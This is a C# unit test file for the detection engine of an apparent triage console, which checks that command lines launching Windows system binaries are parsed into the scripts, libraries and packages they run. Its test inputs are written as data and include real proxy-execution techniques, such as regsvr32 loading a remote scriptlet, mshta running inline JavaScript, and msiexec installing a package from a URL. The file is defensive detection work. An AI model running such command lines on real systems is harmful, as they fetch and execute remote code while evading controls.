using TriageConsole.Detection.CommandLines;
using TriageConsole.Detection.Locations;
using TriageConsole.Detection.Payloads;
using TriageConsole.Detection.Tests.CommandLines;
using TriageConsole.Domain.Detection;

namespace TriageConsole.Detection.Tests.Payloads;

/// <summary>Which words of a command line are code: a hit and a near miss of every form, as kind, text, place and what goes with it.</summary>
public sealed class GrammarTests
{
    private const string Folder = @"C:\Users\anna\Downloads";

    private static readonly LocationClassifier _locations = new(Seed.Data);

    public static TheoryData<string> Grammars => [.. GrammarCatalog.Names];

    [Theory]
    [InlineData("script-host", @"wscript.exe C:\Temp\x.vbs arg", @"Script c:\temp\x.vbs Temp ")]
    [InlineData("script-host", @"wscript x.vbs", @"Script c:\users\anna\downloads\x.vbs UserWritable ")]
    [InlineData("script-host", @"cscript //nologo //E:jscript C:\Temp\x.txt", @"Script c:\temp\x.txt Temp jscript")]
    [InlineData("script-host", @"cscript /e:JScript C:\Temp\x.txt", @"Script c:\temp\x.txt Temp jscript")]
    [InlineData("script-host", @"cscript C:\Temp\x.txt //B //E:jscript", @"Script c:\temp\x.txt Temp jscript")]
    [InlineData("script-host", @"cscript C:\Temp\x.vbs /e:jscript", @"Script c:\temp\x.vbs Temp ")]
    [InlineData("script-host", @"cscript //nologo //b", "")]
    [InlineData("script-host", @"cscript C:\Windows\x.vbs 127.0.0.1 script:https://e/x.sct", @"Script c:\windows\x.vbs System ; Scriptlet script:https://e/x.sct Url ")]
    [InlineData("script-host", @"cscript C:\Windows\x.vbs vbscript:https://e/x.sct", @"Script c:\windows\x.vbs System ")]
    [InlineData("script-host", @"cscript C:\Windows\x.vbs script:word", @"Script c:\windows\x.vbs System ")]
    [InlineData("assembly", @"installutil /logfile= /U C:\Temp\a.dll", @"Assembly c:\temp\a.dll Temp ")]
    [InlineData("assembly", @"regasm C:\Temp\a.dll C:\Windows\b.dll", @"Assembly c:\temp\a.dll Temp ; Assembly c:\windows\b.dll System ")]
    [InlineData("assembly", @"installutil /?", "")]
    [InlineData("html-application", @"mshta http://e/a.hta", "Script http://e/a.hta Url ")]
    [InlineData("html-application", @"mshta C:\Temp\a.hta {x}", @"Script c:\temp\a.hta Temp ")]
    [InlineData("html-application", "mshta javascript:a=GetObject(\"script:http://e/x\")", "InlineCode javascript:a=getobject(script:http://e/x) Url ")]
    [InlineData("html-application", "mshta vbscript:close", "InlineCode vbscript:close Unresolved ")]
    [InlineData("html-application", "mshta script:http://e/x.sct", "Scriptlet script:http://e/x.sct Url ")]
    [InlineData("html-application", "mshta -embedding", "")]
    [InlineData("register-library", @"regsvr32 /s /n /u /i:http://e/x.sct scrobj.dll", @"Scriptlet http://e/x.sct Url ; Library c:\users\anna\downloads\scrobj.dll UserWritable ")]
    [InlineData("register-library", @"regsvr32 -s C:\Windows\a.dll", @"Library c:\windows\a.dll System ")]
    [InlineData("register-library", @"regsvr32 /i:user C:\Windows\a.dll", @"Library c:\windows\a.dll System ")]
    [InlineData("register-library", @"regsvr32 /s", "")]
    [InlineData("run-library", @"rundll32 C:\Temp\a.dll,Run x", @"Library c:\temp\a.dll Temp run")]
    [InlineData("run-library", "rundll32 \"C:\\Temp\\a,b.dll\",#1", @"Library c:\temp\a Temp b.dll")]
    [InlineData("run-library", @"rundll32 C:\Temp\a.dll Run", @"Library c:\temp\a.dll Temp run")]
    [InlineData("run-library", @"rundll32 C:\Temp\a.dll , Run", @"Library c:\temp\a.dll Temp ")]
    [InlineData("run-library", @"rundll32 C:\Windows\a.dll,Run C:\Temp\x.exe /c", @"Library c:\windows\a.dll System run; Program c:\temp\x.exe Temp run")]
    [InlineData("run-library", @"rundll32 javascript:""\..\mshtml,RunHTMLApplication "";alert(1)", @"InlineCode javascript:\..\mshtml,runhtmlapplication ;alert(1) Unresolved ")]
    [InlineData("run-library", "rundll32 -sta", "")]
    [InlineData("run-library", "rundll32", "")]
    [InlineData("build-project", @"msbuild C:\Temp\a.csproj /p:x=y", @"Package c:\temp\a.csproj Temp ")]
    [InlineData("build-project", @"msbuild @C:\Temp\a.rsp", @"Package c:\temp\a.rsp Temp response")]
    [InlineData("build-project", @"msbuild /noautoresponse /logger:Cls,C:\Temp\l.dll;p=1", @"Assembly c:\temp\l.dll Temp logger")]
    [InlineData("build-project", @"msbuild -l:C:\Temp\l.dll", @"Assembly c:\temp\l.dll Temp logger")]
    [InlineData("build-project", @"msbuild /m /v:q", "")]
    [InlineData("stylesheet", @"wmic os get /format:""http://e/x.xsl""", "Stylesheet http://e/x.xsl Url ")]
    [InlineData("stylesheet", @"wmic os get /FORMAT C:\Temp\x", @"Stylesheet c:\temp\x Temp ")]
    [InlineData("stylesheet", @"msxsl C:\Temp\a.xml C:\Temp\b.xsl C:\Temp\c.xsl", @"Stylesheet c:\temp\a.xml Temp ; Stylesheet c:\temp\b.xsl Temp ")]
    [InlineData("stylesheet", @"wmic process call create ""calc.exe /x""", "Program calc.exe /x Unresolved create")]
    [InlineData("stylesheet", @"wmic shadowcopy call create volume=c:", "")]
    [InlineData("stylesheet", @"wmic process list brief", "")]
    [InlineData("help-file", @"hh.exe C:\a b\c d.chm", @"Package c:\a b\c d.chm OtherLocal ")]
    [InlineData("help-file", @"hh.exe ""C:\a b\c.chm"" x.y", @"Package c:\a b\c.chm OtherLocal ")]
    [InlineData("help-file", "hh.exe http://e/x.chm", "Package http://e/x.chm Url ")]
    [InlineData("help-file", "hh.exe -decompile", "")]
    [InlineData("setup-script", @"cmstp.exe /s /ns C:\Temp\x.inf", @"Package c:\temp\x.inf Temp ")]
    [InlineData("control-item", @"control.exe C:\Temp\x.txt:e.dll", @"Library c:\temp\x.txt:e.dll Temp ")]
    [InlineData("installer-package", @"msiexec /q /i http://e/a.msi", "Package http://e/a.msi Url i")]
    [InlineData("installer-package", @"msiexec -package C:\Temp\a.msi /qn", @"Package c:\temp\a.msi Temp package")]
    [InlineData("installer-package", @"msiexec /ihttp://e/a.msi /q", "Package http://e/a.msi Url i")]
    [InlineData("installer-package", @"msiexec /i\\srv\share\a.msi /q", @"Package \\srv\share\a.msi NetworkShare i")]
    [InlineData("installer-package", @"msiexec /iC:\Temp\a.msi /q", @"Package c:\temp\a.msi Temp i")]
    [InlineData("installer-package", @"msiexec /y C:\Temp\a.dll", @"Library c:\temp\a.dll Temp y")]
    [InlineData("installer-package", @"msiexec /yC:\Temp\a.dll", @"Library c:\temp\a.dll Temp y")]
    [InlineData("installer-package", @"msiexec /z C:\Temp\a.dll", @"Library c:\temp\a.dll Temp z")]
    [InlineData("installer-package", @"msiexec /x {0E2C9C9D-0000-0000-0000-000000000000} /passive", "")]
    [InlineData("installer-package", @"msiexec /V", "")]
    [InlineData("odbc-action", @"odbcconf /s /a {REGSVR C:\Temp\a.dll}", @"Library c:\temp\a.dll Temp regsvr")]
    [InlineData("odbc-action", "odbcconf -a {REGSVR \"C:\\Temp\\a b.dll\"}", @"Library c:\temp\a b.dll Temp regsvr")]
    [InlineData("odbc-action", @"odbcconf /a {INSTALLDRIVER ""n|Driver=C:\Temp\a.dll|APILevel=2""}", @"Library c:\temp\a.dll Temp driver")]
    [InlineData("odbc-action", @"odbcconf -f C:\Temp\a.rsp", @"Package c:\temp\a.rsp Temp response")]
    [InlineData("odbc-action", @"odbcconf /a {CONFIGSYSDSN ""SQL Server"" ""DSN=x""}", "")]
    [InlineData("file-command", @"forfiles /p c:\windows /m x /c ""C:\Temp\e.exe /a""", @"Program c:\temp\e.exe Temp ; InlineCode c:\temp\e.exe /a Unresolved ")]
    [InlineData("file-command", @"forfiles /p C:\Temp /m *.log", "")]
    [InlineData("compatibility-start", @"pcalua -a C:\Temp\e.exe -c x", @"Program c:\temp\e.exe Temp ")]
    [InlineData("compatibility-start", @"pcalua -c C:\Temp\e.exe", "")]
    [InlineData("any-file", @"mmc C:\Temp\a.msc /x:C:\Temp\b @C:\Temp\c", @"Program c:\temp\a.msc Temp ; Program c:\temp\b Temp ; Program c:\temp\c Temp ")]
    [InlineData("any-file", @"mmc word -flag /x:word", "")]
    public void Read_EachForm_FindsWhatIsRun(string grammar, string line, string expected) =>
        Assert.Equal(expected, string.Join("; ", Read(grammar, line, Folder).Select(found => $"{found.Kind} {found.Text} {found.Location} {found.Export}")));

    [Fact]
    public void Read_RelativeNameWithoutAFolder_IsUnresolvedAndNotElsewhere() =>
        Assert.Equal(LocationClass.Unresolved, Assert.Single(Read("script-host", "wscript.exe x.vbs", null)).Location);

    [Theory]
    [InlineData("script-host", "wscript.exe  \"C:\\a b\\x.vbs\" y", @"C:\a b\x.vbs")]
    [InlineData("register-library", "regsvr32 /s /i:http://e/x.sct", "http://e/x.sct")]
    [InlineData("run-library", @"rundll32 C:\x^y.dll,Run", @"C:\x^y.dll")]
    [InlineData("help-file", @"hh.exe  C:\a b\c.chm", @"C:\a b\c.chm")]
    [InlineData("installer-package", "msiexec /ihttp://e/a.msi", "http://e/a.msi")]
    public void Read_Span_HoldsTheWordsInTheRawText(string grammar, string line, string words)
    {
        var found = Assert.Single(Read(grammar, line, null));
        Assert.Equal(words, line.Substring(found.Start, found.Length));
    }

    [Theory]
    [MemberData(nameof(Grammars))]
    public void Read_RandomText_NeverThrowsAndStaysInTheRawText(string grammar)
    {
        foreach (var raw in HostileText.Random(1_500, 21).SelectMany(text => (string[])[text, "x.exe " + text]))
        {
            foreach (var found in Read(grammar, raw, Folder))
            {
                Assert.InRange(found.Start, 0, raw.Length);
                Assert.InRange(found.Length, 0, raw.Length - found.Start);
                Assert.NotEmpty(found.Text);
            }
        }
    }

    [Theory]
    [MemberData(nameof(Grammars))]
    public void Read_32KilobytesOfAnything_IsBoundedInTimeAndCount(string grammar)
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var count = 0;
        foreach (var raw in HostileText.Large())
        {
            Assert.InRange(Read(grammar, raw, Folder).Count, 0, PayloadSink.Most);
            count++;
        }

        Assert.InRange(watch.Elapsed.TotalMilliseconds / count, 0, 250);
    }

    [Fact]
    public void Read_ManyFiles_AreCutAtTheMost() =>
        Assert.Equal(PayloadSink.Most, Read("assembly", "regasm " + string.Join(' ', Enumerable.Range(0, 100).Select(n => $@"C:\a{n}.dll")), null).Count);

    [Fact]
    public void Find_EveryGrammarOfTheHosts_IsThereAndOthersAreNot()
    {
        Assert.All(Seed.Data.Hosts.Where(host => host.Grammar != "none"), host => Assert.NotNull(GrammarCatalog.Find(host.Grammar)));
        Assert.Null(GrammarCatalog.Find("none"));
        Assert.Null(GrammarCatalog.Find("Script-Host"));
    }

    private static IReadOnlyList<NamedPayload> Read(string grammar, string line, string? folder)
    {
        var sink = new PayloadSink(CommandLineView.Parse(line), folder, _locations);
        GrammarCatalog.Find(grammar)!.Read(sink);
        return sink.Found;
    }
}
